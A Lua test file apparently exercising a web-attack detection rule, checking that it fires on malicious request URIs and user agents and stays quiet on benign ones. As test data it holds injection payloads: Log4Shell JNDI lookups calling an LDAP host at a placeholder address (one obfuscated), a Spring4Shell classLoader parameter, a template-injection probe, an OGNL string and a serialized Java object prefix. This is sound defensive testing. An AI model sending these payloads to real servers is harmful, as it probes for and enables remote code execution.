local function get(target, ip, agent)
  return { src_ip = ip or "203.0.113.9", method = "GET", uri = target, route = target, status = 404, user_agent = agent }
end

test("each of these fires, once for its address", function(t)
  local attacks = {
    [==[/?x=${jndi:ldap://203.0.113.1/a}]==],
    [==[/?x=%24%7B%24%7Blower%3Aj%7Dndi%3Aldap%3A%2F%2F203.0.113.1%7D]==],
    [==[/?class.module.classLoader.URLs%5B0%5D=0]==],
    [==[/?name={{7*7}}]==],
    [==[/?redirect=%25%7B%28%23_memberAccess%29%7D]==],
    [==[/?o=rO0ABXNyABFqYXZh]==],
  }
  for i, target in ipairs(attacks) do
    t:feed(get(target, "203.0.113." .. i)):times(3):every("1s")
  end
  t:expect { fires = #attacks, severity = "medium" }
end)

test("ordinary requests stay quiet", function(t)
  local ordinary = {
    [==[/]==],
    [==[/blog/2026/01/on-selecting-a-database?utm_source=feed]==],
    [==[/search?q=rock+%26+roll]==],
    [==[/products?sort=price&order=asc&page=2]==],
    [==[/api/v1/users/42/orders?from=2026-01-01&to=2026-02-01]==],
    [==[/wiki/Union_of_European_Football_Associations]==],
    [==[/login?next=%2Faccount]==],
    [==[/static/app.3f2a.js]==],
    [==[/price?in=$20]==],
    [==[/search?q=100%25+cotton]==],
  }
  for _, target in ipairs(ordinary) do t:feed(get(target)) end
  t:expect_quiet()
end)

test("Log4Shell in the user agent fires", function(t)
  t:feed(get("/", nil, "${jndi:ldap://203.0.113.1:1389/a}"))
  t:expect { fires = 1 }
end)
